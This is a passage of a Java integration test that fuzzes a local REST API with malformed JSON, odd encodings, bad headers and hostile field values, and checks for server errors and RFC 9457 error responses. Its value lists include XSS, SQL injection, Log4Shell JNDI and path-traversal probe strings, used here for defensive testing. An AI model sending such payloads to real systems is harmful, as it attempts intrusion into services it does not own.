                            List.of("null", "42", "\"text\"", "true", "-0", "1e999")
                                    .get(random.nextInt(6)));
                case 9 -> raw("the body in an array", "[" + valid + "]");
                case 10 -> raw("nested 10 000 arrays deep", deepArrays(10_000));
                case 11 -> raw("nested 10 000 objects deep", deepObjects(10_000));
                case 12 -> duplicatedKey(valid);
                case 13 ->
                    raw(
                            "NaN and Infinity",
                            valid.replaceFirst("}$", valid.length() > 2 ? ",\"zz\":NaN}" : "\"zz\":Infinity}"));
                case 14 -> bytes("invalid UTF-8", invalidUtf8(valid), "application/json");
                case 15 ->
                    bytes("UTF-16 without a charset", valid.getBytes(StandardCharsets.UTF_16), "application/json");
                case 16 ->
                    bytes(
                            "UTF-16 declared, UTF-8 sent",
                            valid.getBytes(StandardCharsets.UTF_8),
                            "application/json; charset=UTF-16");
                case 17 -> raw("20 000 fields", manyFields(20_000));
                case 18 -> raw("an array of 50 000 objects", "{\"lines\":[" + "{},".repeat(49_999) + "{}],\"ids\":[]}");
                case 19 -> raw("an unescaped control character", "{\"name\":\"a\u0001b\",\"notes\":\"x\ty\"}");
                case 20 -> raw("a bad escape", "{\"name\":\"\\x41\\u12\"}");
                default -> raw("a number with 100 000 digits", "{\"quantity\":" + "9".repeat(100_000) + "}");
            };
        }

        private Attempt duplicatedKey(String valid) {
            if (valid.length() <= 2) {
                return raw("duplicated key", "{\"name\":\"a\",\"name\":\"b\"}");
            }
            var hostile = hostileValue();
            var first = valid.substring(2, valid.indexOf('"', 2));
            return random.nextBoolean()
                    ? raw(
                            "duplicated key '" + first + "' (hostile first)",
                            "{\"" + first + "\":" + serialize(hostile.node()) + "," + valid.substring(1))
                    : raw(
                            "duplicated key '" + first + "' (hostile last)",
                            valid.substring(0, valid.length() - 1) + ",\"" + first + "\":" + serialize(hostile.node())
                                    + "}");
        }

        /** A plausible body sent under another Content-Type or Accept, or none. */
        Attempt wrongMediaType() {
            var body = serialize(body(random.nextBoolean())).getBytes(StandardCharsets.UTF_8);
            var contentTypes = List.of(
                    "",
                    "text/plain",
                    "application/xml",
                    "text/xml",
                    "multipart/form-data; boundary=fuzz",
                    "multipart/form-data",
                    "application/x-www-form-urlencoded",
                    "application/octet-stream",
                    "*/*",
                    "application/*",
                    "application/json; charset=bogus-charset",
                    "application/json; charset=",
                    "application/json; charset=UTF-16",
                    "application/json; charset=ISO-8859-1",
                    "application/json; charset=\"utf-8\"",
                    "application/json; q=0.5; x=y",
                    "application/json, text/plain",
                    "json",
                    "application/",
                    ";;;",
                    "application/merge-patch+json",
                    "application/problem+json",
                    "APPLICATION/JSON",
                    "application/vnd.api+json",
                    "application/json; boundary=\"" + "x".repeat(5_000) + "\"");
            if (random.nextInt(4) == 0) {
                var accepts = List.of("application/xml", "text/html", "image/png", "*/*;q=0", "invalid", "", "text/*");
                var accept = accepts.get(random.nextInt(accepts.size()));
                var headers = jsonHeaders();
                headers.put("Accept", accept);
                return new Attempt("Accept: " + accept, operation.method(), pathWith(Map.of()), body, headers);
            }
            var contentType = contentTypes.get(random.nextInt(contentTypes.size()));
            var headers = new LinkedHashMap<String, String>();
            if (contentType.isEmpty()) {
                return new Attempt("no Content-Type", operation.method(), pathWith(Map.of()), body, headers);
            }
            headers.put("Content-Type", contentType);
            return new Attempt(
                    "Content-Type: " + excerpt(contentType), operation.method(), pathWith(Map.of()), body, headers);
        }

        /** A path id replaced by something that is no id of this resource. */
        Attempt garbagePath() {
            var parameter = new ArrayList<>(targets.keySet()).get(random.nextInt(targets.size()));
            var garbage = List.of(
                    "not-a-uuid",
                    "00000000-0000-0000-0000-000000000000",
                    UUID.randomUUID().toString(),
                    UUID.randomUUID().toString().toUpperCase(Locale.ROOT),
                    "%7B" + UUID.randomUUID() + "%7D",
                    // an id of another kind of resource
                    operation.collection().equals("customers")
                            ? shared.product().id()
                            : shared.customer().id(),
                    "x".repeat(2_000),
                    "x".repeat(20_000),
                    "%F0%9F%92%A5",
                    "%E2%80%AE%E2%80%8B",
                    "%00",
                    "%2F",
                    "..",
                    "%2e%2e",
                    "%ED%A0%80",
                    "%FF%FE",
                    "%20",
                    "'%20OR%201=1--",
                    "-1",
                    "99999999999999999999999",
                    "1e400",
                    "null",
                    ";jsessionid=1",
                    "%252F");
            var value = garbage.get(random.nextInt(garbage.size()));
            return new Attempt(
                    "{" + parameter + "} = " + excerpt(value),
                    operation.method(),
                    pathWith(Map.of(parameter, value)),
                    serialize(body(false)).getBytes(StandardCharsets.UTF_8),
                    jsonHeaders());
        }

        /**
         * A plausible body with a hostile If-Match or Idempotency-Key (ASCII only: java.net.http sends any other
         * character as '?').
         */
        Attempt garbageHeaders() {
            var name = random.nextBoolean() ? "If-Match" : "Idempotency-Key";
            var values = List.of(
                    "",
                    " ",
                    "*",
                    "\"abc\"",
                    "W/\"1\"",
                    "W/",
                    "\"-1\"",
                    "\"0\"",
                    "\"99999999999999999999\"",
                    "\"1\", \"2\"",
                    "\"" + "9".repeat(5_000) + "\"",
                    "k".repeat(256),
                    "fuzz-" + marker + "-" + random.nextInt(1_000_000),
                    "null");
            var value = values.get(random.nextInt(values.size()));
            var headers = jsonHeaders();
            headers.put(name, value);
            return new Attempt(
                    name + ": " + excerpt(value),
                    operation.method(),
                    pathWith(Map.of()),
                    serialize(body(false)).getBytes(StandardCharsets.UTF_8),
                    headers);
        }

        // --- hostile values --------------------------------------------------------------------------------

        record Hostile(String name, JsonNode node) {}

        /**
         * Half the time a value of the same kind gone wrong (a date far out of range for a date, an absurd number
         * for a number, an odd decimal for an amount), where the subtle bugs are; else anything.
         */
        private Hostile hostileValueInstead(JsonNode current) {
            if (random.nextBoolean() && current != null) {
                var text = current.isString() ? current.asString() : "";
                if (text.matches("\\d{4}-\\d{2}-\\d{2}.*")) {
                    return pick("odd date", DATES);
                }
                if (text.matches("-?\\d+(\\.\\d+)?")) {
                    return pick("odd decimal string", DECIMAL_STRINGS);
                }
                if (current.isNumber()) {
                    return pick("extreme number", NUMBERS);
                }
                if (current.isString()) {
                    return random.nextBoolean() ? pick("odd string", STRINGS) : hugeString();
                }
            }
            return hostileValue();
        }

        private Hostile hostileValue() {
            return switch (random.nextInt(8)) {
                case 0 -> pick("wrong type", WRONG_TYPES);
                case 1 -> pick("extreme number", NUMBERS);
                case 2 -> pick("odd decimal string", DECIMAL_STRINGS);
                case 3 -> pick("odd string", STRINGS);
                case 4 -> pick("odd date", DATES);
                case 5 -> hugeString();
                case 6 ->
                    random.nextBoolean()
                            ? new Hostile("10 000 nested arrays", rawJson(deepArrays(10_000)))
                            : new Hostile("10 000 nested objects", rawJson(deepObjects(10_000)));
                default -> pick("wrong type", WRONG_TYPES);
            };
        }

        private Hostile pick(String kind, List<String> values) {
            var value = values.get(random.nextInt(values.size()));
            return new Hostile(kind + " " + excerpt(value), rawJson(value));
        }

        /** 10 kB to 900 kB of one repeated piece of text, staying under the body cap. */
        private Hostile hugeString() {
            var pieces = List.of("x", "é", "💥", "\u200B", "\u202E", "a\u0000", "\\ud800", "👩‍👩‍👧‍👦");
            var piece = pieces.get(random.nextInt(pieces.size()));
            var bytes = List.of(10_000, 65_536, 100_000, 900_000).get(random.nextInt(random.nextInt(8) == 0 ? 4 : 3));
            var escaped = piece.startsWith("\\") ? piece : json.writeValueAsString(piece);
            var unit = piece.startsWith("\\") ? piece : escaped.substring(1, escaped.length() - 1);
            var repeat = Math.max(1, bytes / unit.getBytes(StandardCharsets.UTF_8).length);
            return new Hostile(
                    "a " + bytes / 1000 + " kB string of " + excerpt(unit), rawJson("\"" + unit.repeat(repeat) + "\""));
        }

        // --- helpers ---------------------------------------------------------------------------------------

        private Attempt attempt(String mutation, JsonNode body, Map<String, String> headers) {
            return new Attempt(
                    mutation,
                    operation.method(),
                    pathWith(Map.of()),
                    serialize(body).getBytes(StandardCharsets.UTF_8),
                    headers);
        }

        private Attempt raw(String mutation, String body) {
            return new Attempt(
                    mutation,
                    operation.method(),
                    pathWith(Map.of()),
                    body.getBytes(StandardCharsets.UTF_8),
                    jsonHeaders());
        }

        private Attempt bytes(String mutation, byte[] body, String contentType) {
            var headers = jsonHeaders();
            headers.put("Content-Type", contentType);
            return new Attempt(mutation, operation.method(), pathWith(Map.of()), body, headers);
        }

        /** JSON, or now and then the merge-patch type when the operation takes it. */
        private Map<String, String> jsonHeaders() {
            var headers = new LinkedHashMap<String, String>();
            var mergePatch = operation.mediaTypes().contains("application/merge-patch+json") && random.nextInt(4) == 0;
            headers.put("Content-Type", mergePatch ? "application/merge-patch+json" : "application/json");
            return headers;
        }

        /** The operation's path with its real ids, some replaced by the given raw (already encoded) values. */
        private String pathWith(Map<String, String> replaced) {
            var path = operation.path();
            for (var parameter : operation.pathParameters()) {
                path = path.replace("{" + parameter + "}", replaced.getOrDefault(parameter, targets.get(parameter)));
            }
            return path;
        }

        private String code(String prefix) {
            return HostileInputIntegrationTests.this.code(prefix);
        }
    }

    // --- hostile values, as raw JSON text ------------------------------------------------------------------

    private static final List<String> WRONG_TYPES = List.of(
            "\"fuzz\"", "\"\"", "42", "-7", "3.5", "true", "false", "[]", "[1,\"a\",null]", "{}", "{\"a\":1}", "[[]]");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "-0",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999",
            "1e308",
            "-1e308",
            "1e400",
            "-1e400",
            "1e-400",
            "4.9e-324",
            "0.0000001",
            "1.5",
            "123456789012345678901234567890.123456789");

    private static final List<String> DECIMAL_STRINGS = List.of(
            "\"1e9999\"",
            "\"-1e9999\"",
            "\"1e-9999\"",
            "\"1e999999999\"",
            "\"0e999999999\"",
            "\"NaN\"",
            "\"Infinity\"",
            "\"-0\"",
            "\"0x10\"",
            "\"1,000.00\"",
            "\" 12.00 \"",
            "\"12.00.00\"",
            "\"١٢٣\"",
            "\"99999999999999999999999.99\"",
            "\"-0.001\"");

    private static final List<String> STRINGS = List.of(
            "\"🧨💥👩‍👩‍👧‍👦\"",
            "\"\\u202Eevil\\u202C\"",
            "\"\\u200B\\u200C\\u200D\\uFEFF\"",
            "\"a\\u0000b\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\udc00x\"",
            "\"\\ud83d\"",
            "\"e\\u0301\\u0301\\u0301\\u0301\"",
            "\"𝕳𝖊𝖑𝖑𝖔\"",
            "\"  \"",
            "\"\\t\\r\\n\"",
            "\"<script>alert(1)</script>\"",
            "\"' OR 1=1 --\"",
            "\"%s%n%x\"",
            "\"${jndi:ldap://x/a}\"",
            "\"../../etc/passwd\"",
            "\"\\\\\"",
            "\"\\u0085\\u2028\\u2029\"",
            "\"ＵＳＤ\"",
            "\"usd\"",
            "\"İıſ\"",
            "\"not-a-uuid\"",
            "\"00000000-0000-0000-0000-000000000000\"",
            "\"XXX\"");

    private static final List<String> DATES = List.of(
            "\"+1000000000-01-01T00:00:00Z\"",
            "\"-1000000000-01-01T00:00:00Z\"",
            "\"+999999999-12-31\"",
            "\"-999999999-01-01\"",
            "\"+10000-01-01\"",
            "\"+10000-01-01T00:00:00Z\"",
            "\"0000-01-01\"",
            "\"0000-01-01T00:00:00Z\"",
            "\"9999-12-31T23:59:59.999999999Z\"",
            "\"2026-02-30\"",
            "\"2026-11-24T25:00:00Z\"",
            "\"2026-11-24T10:00:00+25:00\"",
            "\"1970-01-01\"",
            "\"yesterday\"",
            "-62135596800",
            "253402300800000");

    private JsonNode rawJson(String text) {
        return nodes.rawValueNode(new RawValue(text));
    }

    private static String deepArrays(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String deepObjects(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String manyFields(int count) {
        var body = new StringBuilder("{");
        for (var i = 0; i < count; i++) {
            body.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return body.append('}').toString();
    }

    /** The body with bytes that are no UTF-8 put inside its first string. */
    private static byte[] invalidUtf8(String valid) {
        var bytes = valid.getBytes(StandardCharsets.UTF_8);
        var quote = valid.indexOf('"');
        var at = quote < 0 ? 0 : quote + 1;
        var result = new byte[bytes.length + 4];
        System.arraycopy(bytes, 0, result, 0, at);
        result[at] = (byte) 0xC3;
        result[at + 1] = (byte) 0x28;
        result[at + 2] = (byte) 0xFF;
        result[at + 3] = (byte) 0xED;
        System.arraycopy(bytes, at, result, at + 4, bytes.length - at);
        return result;
    }

    // --- the tree of a body --------------------------------------------------------------------------------

    /** A place in a body that holds a value: a field of an object or an element of an array. */
    private record Slot(JsonNode container, String field, int index, String pointer) {

        JsonNode value() {
            return container instanceof ObjectNode object ? object.get(field) : container.get(index);
        }

        void replace(JsonNode value) {
            if (container instanceof ObjectNode object) {
                object.set(field, value);
            } else {
                ((ArrayNode) container).set(index, value);
            }
        }

        void remove() {
            if (container instanceof ObjectNode object) {
                object.remove(field);
            } else {
                ((ArrayNode) container).remove(index);
            }
        }
    }

    private static List<Slot> slots(JsonNode node, String pointer) {
        var found = new ArrayList<Slot>();
        if (node instanceof ObjectNode object) {
            for (var name : new ArrayList<>(object.propertyNames())) {
                var at = pointer + "/" + name;
                found.add(new Slot(object, name, -1, at));
                found.addAll(slots(object.get(name), at));
            }
        } else if (node instanceof ArrayNode array) {
            for (var i = 0; i < array.size(); i++) {
                var at = pointer + "/" + i;
                found.add(new Slot(array, null, i, at));
                found.addAll(slots(array.get(i), at));
            }
        }
        return found;
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> into) {
        if (node instanceof ObjectNode object) {
            into.add(object);
        }
        if (node != null && node.isContainer()) {
            node.values().forEach(child -> collectObjects(child, into));
        }
    }

    /** Follows {@code $ref}s (and a lone {@code allOf}/{@code oneOf}) to the schema itself. */
    private JsonNode resolve(JsonNode schema) {
        var node = schema == null ? nodes.missingNode() : schema;
        for (var i = 0; i < 20; i++) {
            if (node.has("$ref")) {
                var name = node.get("$ref").asString().replace("#/components/schemas/", "");
                node = schemas.path(name);
            } else if (node.has("allOf") || node.has("oneOf") || node.has("anyOf")) {
                var choices = node.has("allOf")
                        ? node.get("allOf")
                        : node.has("oneOf") ? node.get("oneOf") : node.get("anyOf");
                node = choices.path(0);
            } else {
                return node;
            }
        }
        return node;
    }

    private String serialize(JsonNode node) {
        return json.writeValueAsString(node);
    }

    // --- sending and judging -------------------------------------------------------------------------------

    /** The request line and headers of the attempt, as far as their length goes (at least what is sent). */
    private static int headBytes(Attempt attempt) {
        var headers = attempt.headers().entrySet().stream()
                .mapToInt(header -> header.getKey().length() + header.getValue().length() + 4)
                .sum();
        return attempt.method().length() + attempt.path().length() + headers + 12;
    }

    /** Sends the attempt and judges the answer; {@code null} when the HTTP client refuses to send it. */
    private HttpResponse<String> send(Operation operation, Attempt attempt) {
        HttpRequest request;
        try {
            var builder = HttpRequest.newBuilder(URI.create("http://localhost:" + port + attempt.path()))
                    .timeout(Duration.ofSeconds(60))
                    .header("Authorization", "Bearer " + ADMIN_TOKEN);
            if (!attempt.headers().containsKey("Accept")) {
                builder.header("Accept", "application/json, application/problem+json");
            }
            attempt.headers().forEach(builder::header);
            builder.method(
                    attempt.method(),
                    attempt.body() == null
                            ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofByteArray(attempt.body()));
            request = builder.build();
        } catch (IllegalArgumentException e) {
            // A header or URI java.net.http will not put on the wire (a control character, a bad escape).
            unsendable++;
            return null;
        }
        sent++;
        HttpResponse<String> response;
        try {
            response = HTTP.send(request, HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (HttpTimeoutException e) {
            violations.add(new Violation(operation.name(), attempt, "no answer within 60 s", 0, "", ""));
            return null;
        } catch (IOException e) {
            if (headBytes(attempt) > MAX_HEAD_BYTES) {
                cutOff++; // refused by Tomcat before any of Ordino ran; the answer is checked when it arrives
                return null;
            }
            violations.add(new Violation(operation.name(), attempt, "no HTTP answer: " + e, 0, "", ""));
            return null;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
        statuses.merge(response.statusCode(), 1, Integer::sum);
        var problem = problemWith(response);
        if (problem != null) {
            violations.add(violation(operation, attempt, problem, response));
        }
        return response;
    }

    /** What is wrong with the answer, or {@code null}: below 500, and every error an RFC 9457 problem. */
    private String problemWith(HttpResponse<String> response) {
        var status = response.statusCode();
        if (status >= 500) {
            return "a server error";
        }
        if (status < 400) {
            return null;
        }
        var contentType = response.headers().firstValue("Content-Type").orElse("");
        if (!contentType.startsWith("application/problem+json")) {
            return "an error that is not application/problem+json";
        }
        JsonNode problem;
        try {
            problem = json.readTree(response.body());
        } catch (RuntimeException e) {
            return "a problem whose body is not JSON";
        }
        if (!problem.path("type").isString() || problem.path("type").asString().isBlank()) {
            return "a problem without a type";
        }
        if (!problem.path("title").isString()) {
            return "a problem without a title";
        }
        if (problem.path("status").asInt(-1) != status) {
            return "a problem whose status is not the HTTP status";
        }
        if (problem.path("detail").asString("").equals(WRITE_RACE)) {
            // Requests go one at a time here, so no write raced this one: the database refused what the API let in.
            return "input the API did not check reached the database, which refused it";
        }
        return null;
    }

    private Violation violation(Operation operation, Attempt attempt, String what, HttpResponse<String> response) {
        return new Violation(
                operation.name(),
                attempt,
                what,
                response.statusCode(),
                response.headers().firstValue("Content-Type").orElse("(none)"),
                response.body());
    }

    // --- stored state --------------------------------------------------------------------------------------

    private Snapshot snapshot(List<String> statePaths) {
        return new Snapshot(rowCounts(), readAll(statePaths));
    }

    /** The number of rows of every table the requests write, in one statement. */
    private Map<String, Long> rowCounts() {
        var sql = String.join(
                " UNION ALL ",
                tables.stream()
                        .map(table -> "SELECT '" + table + "' AS t, COUNT(*) AS n FROM " + table)
                        .toList());
        var counts = new TreeMap<String, Long>();
        jdbc.sql(sql)
                .query((row, i) -> Map.entry(row.getString(1), row.getLong(2)))
                .list()
                .forEach(count -> counts.put(count.getKey(), count.getValue()));
        return counts;
    }

    private Map<String, String> readAll(List<String> paths) {
        var read = new LinkedHashMap<String, String>();
        for (var path : paths) {
            var response = api.get(path);
            read.put(path, response.status() + " " + response.text());
        }
        return read;
    }

    /** What differs between two snapshots, for the report, or {@code null}. */
    private static String difference(Snapshot before, Snapshot after) {
        for (var table : before.rows().keySet()) {
            if (!before.rows().get(table).equals(after.rows().get(table))) {
                return "rows in " + table + " " + before.rows().get(table) + " → "
                        + after.rows().get(table);
            }
        }
        for (var path : before.resources().keySet()) {
            var was = before.resources().get(path);
            var is = after.resources().get(path);
            if (is != null && !was.equals(is)) {
                var at = 0;
                while (at < Math.min(was.length(), is.length()) && was.charAt(at) == is.charAt(at)) {
                    at++;
                }
                var from = Math.max(0, at - 60);
                return "GET " + path + " was ..." + excerpt(was.substring(from)) + " and is now ..."
                        + excerpt(is.substring(from));
            }
        }
        return null;
    }

    private static String excerpt(String text) {
        var oneLine = text.replace("\n", "\\n");
        return oneLine.length() <= 240 ? oneLine : oneLine.substring(0, 240) + "... (" + text.length() + " chars)";
    }
}
